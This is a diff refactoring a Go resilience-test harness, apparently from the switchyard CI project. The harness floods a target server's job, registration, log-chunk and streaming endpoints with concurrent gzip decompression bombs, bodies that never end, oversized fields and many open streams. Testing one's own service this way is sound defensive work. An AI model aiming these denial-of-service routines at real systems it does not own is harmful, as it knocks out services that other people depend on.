@@ -14,11 +14,11 @@ import (
 	"sync"
 	"time"
 
-	"github.com/switchyard-ci/switchyard/proto/agentedge/v1/agentedgev1connect"
-	"github.com/switchyard-ci/switchyard/proto/switchyard/v1/switchyardv1connect"
 	"google.golang.org/protobuf/proto"
 
+	"github.com/switchyard-ci/switchyard/proto/agentedge/v1/agentedgev1connect"
 	switchyardv1 "github.com/switchyard-ci/switchyard/proto/switchyard/v1"
+	"github.com/switchyard-ci/switchyard/proto/switchyard/v1/switchyardv1connect"
 )
 
 const (
@@ -43,22 +43,22 @@ const (
 func (s *statuses) String() string {
 	s.mu.Lock()
 	defer s.mu.Unlock()
-	var words []string
+	words := make([]string, 0, len(s.counts))
 	for _, status := range slices.Sorted(maps.Keys(s.counts)) {
 		words = append(words, fmt.Sprintf("%d x %s", s.counts[status], status))
 	}
 	return strings.Join(words, ", ")
 }
 
-// atOnce makes n requests at the same time and returns how they ended.
-func (v *victim) atOnce(ctx context.Context, n int, method, path string, header http.Header, body func() io.Reader) string {
+// atOnce makes n POST requests at the same time and returns how they ended.
+func (v *victim) atOnce(ctx context.Context, n int, path string, header http.Header, body func() io.Reader) string {
 	ctx, cancel := context.WithTimeout(ctx, attackTime)
 	defer cancel()
 	var all sync.WaitGroup
 	var ended statuses
 	for range n {
 		all.Go(func() {
-			status, _, err := v.do(ctx, method, path, header.Clone(), body())
+			status, _, err := v.do(ctx, http.MethodPost, path, header.Clone(), body())
 			ended.add(status, err)
 		})
 	}
@@ -85,7 +85,7 @@ func compressedBodies(authorization string) func(context.Context, *victim) (stri
 			value = "Bearer " + v.admin
 		}
 		body := compressed(bytes.Repeat([]byte{0x0a, 0}, bombBytes/2))
-		return v.atOnce(ctx, bombs, http.MethodPost, switchyardv1connect.JobServiceSubmitJobProcedure,
+		return v.atOnce(ctx, bombs, switchyardv1connect.JobServiceSubmitJobProcedure,
 			header("Authorization", value, "Content-Type", "application/proto", "Content-Encoding", "gzip"),
 			func() io.Reader { return bytes.NewReader(body) }), nil
 	}
@@ -100,9 +100,10 @@ func (endless) Read(p []byte) (int, error) { return len(p), nil }
 // endlessBodies sends bodies without an end to both APIs.
 func endlessBodies(authorization string) func(context.Context, *victim) (string, error) {
 	return func(ctx context.Context, v *victim) (string, error) {
-		var words []string
-		for _, path := range []string{"/v3/register", switchyardv1connect.JobServiceSubmitJobProcedure} {
-			words = append(words, v.atOnce(ctx, bombs/2, http.MethodPost, path,
+		paths := []string{"/v3/register", switchyardv1connect.JobServiceSubmitJobProcedure}
+		words := make([]string, 0, len(paths))
+		for _, path := range paths {
+			words = append(words, v.atOnce(ctx, bombs/2, path,
 				header("Authorization", authorization, "Content-Type", "application/json"), func() io.Reader { return endless{} }))
 		}
 		return strings.Join(words, "; "), nil
@@ -141,7 +142,7 @@ func (v *victim) openStreams(ctx context.Context, authorization string) string {
 	ctx, cancel := context.WithTimeout(ctx, floodTime)
 	defer cancel()
 	message := fmt.Appendf(nil, `{"agentId":%q}`, v.workerID)
-	return v.atOnce(ctx, streamsAtOne, http.MethodPost, agentedgev1connect.AgentEdgeServiceStreamPingsProcedure,
+	return v.atOnce(ctx, streamsAtOne, agentedgev1connect.AgentEdgeServiceStreamPingsProcedure,
 		header("Authorization", authorization, "Content-Type", "application/connect+json"),
 		func() io.Reader { return bytes.NewReader(envelope(message)) })
 }
@@ -154,7 +155,7 @@ func envelope(message []byte) []byte {
 // bombsOfJob sends log chunks that are far larger than they say.
 func bombsOfJob(ctx context.Context, v *victim) (string, error) {
 	body := compressed(make([]byte, chunkBomb))
-	return v.atOnce(ctx, bombs, http.MethodPost, "/v3/jobs/"+v.jobID+"/chunks?sequence=1&offset=0&size=1000",
+	return v.atOnce(ctx, bombs, "/v3/jobs/"+v.jobID+"/chunks?sequence=1&offset=0&size=1000",
 		header("Authorization", "Token "+v.jobKey, "Content-Encoding", "gzip"),
 		func() io.Reader { return bytes.NewReader(body) }), nil
 }
@@ -162,7 +163,7 @@ func bombsOfJob(ctx context.Context, v *victim) (string, error) {
 // dataOfJob sends large meta-data of the job's build.
 func dataOfJob(ctx context.Context, v *victim) (string, error) {
 	body := `{"key":"x","value":"` + strings.Repeat("<", dataBytes) + `"}`
-	return v.atOnce(ctx, bombs, http.MethodPost, "/v3/jobs/"+v.jobID+"/data/set",
+	return v.atOnce(ctx, bombs, "/v3/jobs/"+v.jobID+"/data/set",
 		header("Authorization", "Token "+v.jobKey, "Content-Type", "application/json"),
 		func() io.Reader { return strings.NewReader(body) }), nil
 }
@@ -170,7 +171,7 @@ func dataOfJob(ctx context.Context, v *victim) (string, error) {
 // largeRegistrations registers workers with large tags.
 func largeRegistrations(ctx context.Context, v *victim) (string, error) {
 	body := `{"name":"evil","meta_data":["x=` + strings.Repeat("<", tagBytes) + `"]}`
-	return v.atOnce(ctx, floods, http.MethodPost, "/v3/register",
+	return v.atOnce(ctx, floods, "/v3/register",
 		header("Authorization", "Token "+v.registration, "Content-Type", "application/json"),
 		func() io.Reader { return strings.NewReader(body) }), nil
 }
@@ -204,7 +205,8 @@ func (v *victim) followRaw(ctx context.Context, body []byte) error {
 	if err != nil {
 		return err
 	}
-	_, err = fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/connect+proto\r\nContent-Length: %d\r\n\r\n%s",
+	_, err = fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"+
+		"Content-Type: application/connect+proto\r\nContent-Length: %d\r\n\r\n%s",
 		switchyardv1connect.JobServiceFollowJobProcedure, v.admin, len(body), body)
 	if err != nil {
 		return fmt.Errorf("following: %w", err)
@@ -217,7 +219,8 @@ func (v *victim) follow(ctx context.Context, body []byte) error {
 	transport := &http.Transport{Protocols: new(http.Protocols)}
 	transport.Protocols.SetUnencryptedHTTP2(true)
 	ctx, cancel := context.WithCancel(ctx)
-	req, err := http.NewRequestWithContext(ctx, http.MethodPost, v.url+switchyardv1connect.JobServiceFollowJobProcedure, bytes.NewReader(body))
+	url := v.url + switchyardv1connect.JobServiceFollowJobProcedure
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
 	if err == nil {
 		req.Header = header("Authorization", "Bearer "+v.admin, "Content-Type", "application/connect+proto")
 		var res *http.Response
